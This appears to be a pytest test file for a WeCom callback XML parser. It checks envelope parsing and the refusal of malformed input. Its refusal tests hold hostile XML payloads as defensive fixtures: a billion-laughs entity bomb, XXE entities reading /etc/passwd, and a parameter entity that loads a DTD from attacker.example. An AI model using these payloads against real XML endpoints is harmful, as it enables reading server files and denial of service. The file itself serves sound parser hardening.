"""scrm.wecom.callback.wxml: WeCom envelopes and shapes, and refusal of hostile or malformed bodies."""
from __future__ import annotations

import pytest
from scrm.wecom.callback.wxml import MAX_BODY, MAX_DEPTH, XmlError, parse_xml


def reason_of(data: str | bytes) -> str:
    with pytest.raises(XmlError) as err:
        parse_xml(data)
    return err.value.reason


# --- envelopes and shapes -----------------------------------------------------------


def test_self_built_envelope() -> None:
    # FACTS §3.2 sample, pretty-printed as in the doc.
    body = """<xml>
      <ToUserName><![CDATA[toUser]]></ToUserName>
      <FromUserName><![CDATA[sys]]></FromUserName>
      <CreateTime>1403610513</CreateTime>
      <MsgType><![CDATA[event]]></MsgType>
      <Event><![CDATA[change_external_contact]]></Event>
      <ChangeType><![CDATA[add_external_contact]]></ChangeType>
      <UserID><![CDATA[zhangsan]]></UserID>
      <ExternalUserID><![CDATA[woAJ2GCAAAXtWyujaWJHDDGi0mAAAA]]></ExternalUserID>
      <State><![CDATA[teststate]]></State>
      <WelcomeCode><![CDATA[WELCOMECODE]]></WelcomeCode>
    </xml>"""
    assert parse_xml(body) == {
        "ToUserName": "toUser",
        "FromUserName": "sys",
        "CreateTime": "1403610513",
        "MsgType": "event",
        "Event": "change_external_contact",
        "ChangeType": "add_external_contact",
        "UserID": "zhangsan",
        "ExternalUserID": "woAJ2GCAAAXtWyujaWJHDDGi0mAAAA",
        "State": "teststate",
        "WelcomeCode": "WELCOMECODE",
    }


def test_third_party_envelope_with_mem_change_list() -> None:
    body = (
        "<xml><SuiteId><![CDATA[ww4asffe99e54c0f4c]]></SuiteId>"
        "<AuthCorpId><![CDATA[wxf8b4f85f3a794e77]]></AuthCorpId>"
        "<InfoType><![CDATA[change_external_chat]]></InfoType>"
        "<TimeStamp>1403610513</TimeStamp>"
        "<ChatId><![CDATA[CHAT_ID]]></ChatId>"
        "<ChangeType><![CDATA[update]]></ChangeType>"
        "<UpdateDetail><![CDATA[add_member]]></UpdateDetail>"
        "<JoinScene>1</JoinScene><QuitScene>0</QuitScene><MemChangeCnt>10</MemChangeCnt>"
        "<MemChangeList><Item>Jack</Item><Item>Rose</Item></MemChangeList>"
        "<LastMemVer>9c3f97c2ada667dfb5f6d03308d963e1</LastMemVer>"
        "<CurMemVer>71217227bbd112ecfe3a49c482195cb4</CurMemVer></xml>"
    )
    assert parse_xml(body) == {
        "SuiteId": "ww4asffe99e54c0f4c",
        "AuthCorpId": "wxf8b4f85f3a794e77",
        "InfoType": "change_external_chat",
        "TimeStamp": "1403610513",
        "ChatId": "CHAT_ID",
        "ChangeType": "update",
        "UpdateDetail": "add_member",
        "JoinScene": "1",
        "QuitScene": "0",
        "MemChangeCnt": "10",
        "MemChangeList": ["Jack", "Rose"],
        "LastMemVer": "9c3f97c2ada667dfb5f6d03308d963e1",
        "CurMemVer": "71217227bbd112ecfe3a49c482195cb4",
    }


def test_single_item_list_stays_a_list() -> None:
    body = "<xml><MemChangeList><Item>Jack</Item></MemChangeList></xml>"
    assert parse_xml(body) == {"MemChangeList": ["Jack"]}


def test_ext_attr_is_a_list_of_dicts() -> None:
    body = """<xml><MsgType>event</MsgType><Event>change_contact</Event><ChangeType>create_user</ChangeType>
      <UserID>zhangsan</UserID><Department>1,2,3</Department>
      <ExtAttr>
        <Item><Name><![CDATA[爱好]]></Name><Type>0</Type><Text><Value><![CDATA[旅游]]></Value></Text></Item>
        <Item><Name>官网</Name><Type>1</Type>
          <Web><Title><![CDATA[企业微信]]></Title><Url><![CDATA[https://work.weixin.qq.com]]></Url></Web></Item>
      </ExtAttr></xml>"""
    parsed = parse_xml(body)
    assert parsed["Department"] == "1,2,3"
    assert parsed["ExtAttr"] == [
        {"Name": "爱好", "Type": "0", "Text": {"Value": "旅游"}},
        {"Name": "官网", "Type": "1", "Web": {"Title": "企业微信", "Url": "https://work.weixin.qq.com"}},
    ]


def test_ext_attr_with_one_item() -> None:
    body = (
        "<xml><ExtAttr><Item><Name>a</Name><Type>0</Type>"
        "<Text><Value>v</Value></Text></Item></ExtAttr></xml>"
    )
    assert parse_xml(body) == {"ExtAttr": [{"Name": "a", "Type": "0", "Text": {"Value": "v"}}]}


def test_repeated_top_level_tag_becomes_a_list() -> None:
    assert parse_xml("<xml><A>1</A><B>x</B><A>2</A><A>3</A></xml>") == {"A": ["1", "2", "3"], "B": "x"}


def test_repeated_tag_inside_a_mixed_record() -> None:
    body = "<xml><R><K>1</K><K>2</K><Other>o</Other></R></xml>"
    assert parse_xml(body) == {"R": {"K": ["1", "2"], "Other": "o"}}


def test_repeated_list_elements_give_a_list_of_lists() -> None:
    body = "<xml><L><Item>a</Item></L><L><Item>b</Item><Item>c</Item></L></xml>"
    assert parse_xml(body) == {"L": [["a"], ["b", "c"]]}


def test_cdata_content_is_taken_literally() -> None:
    body = "<xml><Content><![CDATA[a<b> & &amp; ]]]></Content><Esc>x &lt;&amp;&gt; y</Esc></xml>"
    assert parse_xml(body) == {"Content": "a<b> & &amp; ]", "Esc": "x <&> y"}


def test_text_is_stripped_and_empty_elements_are_empty_strings() -> None:
    body = "<xml><A>\n  1403610513\n</A><B></B><C/><D><![CDATA[]]></D><E>  </E></xml>"
    assert parse_xml(body) == {"A": "1403610513", "B": "", "C": "", "D": "", "E": ""}


def test_root_without_children() -> None:
    assert parse_xml("<xml/>") == {}
    assert parse_xml("<xml>text only</xml>") == {}


def test_bytes_and_declaration() -> None:
    body = '<?xml version="1.0" encoding="UTF-8"?>\n<xml><Content>你好</Content></xml>'
    assert parse_xml(body.encode()) == {"Content": "你好"}
    assert parse_xml(body) == {"Content": "你好"}
    assert parse_xml(bytearray(body.encode())) == {"Content": "你好"}


def test_declared_encoding_cannot_override_utf8() -> None:
    body = '<?xml version="1.0" encoding="ISO-8859-1"?><xml><Content>你好</Content></xml>'
    assert parse_xml(body.encode()) == {"Content": "你好"}


def test_nesting_up_to_max_depth() -> None:
    n = MAX_DEPTH
    body = "<xml>" + "<a>" * n + "v" + "</a>" * n + "</xml>"
    value = parse_xml(body)
    for _ in range(n - 1):
        value = value["a"]
    assert value == {"a": "v"}


# --- refused input ------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE xml [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><Content>&lol9;</Content></xml>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><Content>&xxe;</Content></xml>"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        XXE,
        '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><xml/>',
        '<!DOCTYPE xml SYSTEM "file:///etc/passwd"><xml/>',
        "<!DOCTYPE xml><xml><A>1</A></xml>",
        '<!DOCTYPE xml [<!ENTITY e "internal">]><xml><A>1</A></xml>',
    ],
    ids=["billion-laughs", "xxe-file", "parameter-entity", "external-dtd", "dtd-alone", "unused-entity"],
)
def test_dtd_and_entities_forbidden(body: str) -> None:
    assert reason_of(body) == "dtd_forbidden"
    assert reason_of(body.encode()) == "dtd_forbidden"


def test_oversize_body() -> None:
    filler = "<xml><A>" + "x" * (MAX_BODY + 1 - len("<xml><A></A></xml>")) + "</A></xml>"
    assert len(filler.encode()) == 65537
    assert reason_of(filler) == "too_large"
    assert reason_of(filler.encode()) == "too_large"
    assert reason_of(b" " * (10 * MAX_BODY)) == "too_large"


def test_body_of_exactly_max_size_is_accepted() -> None:
    body = "<xml><A>" + "x" * (MAX_BODY - len("<xml><A></A></xml>")) + "</A></xml>"
    assert len(body.encode()) == MAX_BODY
    assert len(parse_xml(body)["A"]) == MAX_BODY - 18


def test_size_counts_utf8_bytes_not_characters() -> None:
    body = "<xml><A>" + "你" * (MAX_BODY // 3) + "</A></xml>"
    assert len(body) < MAX_BODY < len(body.encode())
    assert reason_of(body) == "too_large"


def test_too_deep_nesting_is_refused() -> None:
    n = 9000  # would overflow the recursion limit if walked blindly
    assert reason_of("<xml>" + "<a>" * n + "</a>" * n + "</xml>") == "too_large"
    n = MAX_DEPTH + 1
    assert reason_of("<xml>" + "<a>" * n + "v" + "</a>" * n + "</xml>") == "too_large"


@pytest.mark.parametrize(
    "body",
    [
        "hello",
        '{"ToUserName": "x"}',
        "<xml>",
        "<xml><A>1</B></xml>",
        "<xml><A>1</A></xml><xml/>",
        "<xml><A>&undefined;</A></xml>",
        "<xml><A>\x00</A></xml>",
    ],
    ids=["text", "json", "unclosed", "mismatched", "two-roots", "undefined-entity", "nul"],
)
def test_not_xml(body: str) -> None:
    assert reason_of(body) == "not_xml"


@pytest.mark.parametrize("body", ["", b"", "   \n", b"\n"])
def test_empty_body(body: str | bytes) -> None:
    assert reason_of(body) == "not_xml"


@pytest.mark.parametrize(
    "body",
    ["<root><A>1</A></root>", "<XML/>", "<xmlx/>", '<w:xml xmlns:w="urn:x"><A>1</A></w:xml>'],
)
def test_wrong_root(body: str) -> None:
    assert reason_of(body) == "bad_root"


@pytest.mark.parametrize(
    "body",
    ["<xml><A>你好</A></xml>".encode("gbk"), b"<xml><A>\xff\xfe</A></xml>", "<xml/>".encode("utf-16")],
    ids=["gbk", "invalid-bytes", "utf-16"],
)
def test_non_utf8_bytes(body: bytes) -> None:
    assert reason_of(body) == "not_xml"


def test_unencodable_str() -> None:
    assert reason_of("<xml><A>\ud800</A></xml>") == "not_xml"


def test_xml_error_is_a_value_error_with_reason() -> None:
    with pytest.raises(ValueError):
        parse_xml("nope")
    assert XmlError("bad_root").reason == "bad_root"


def test_other_types_are_a_programming_error() -> None:
    with pytest.raises(TypeError):
        parse_xml(None)  # type: ignore[arg-type]
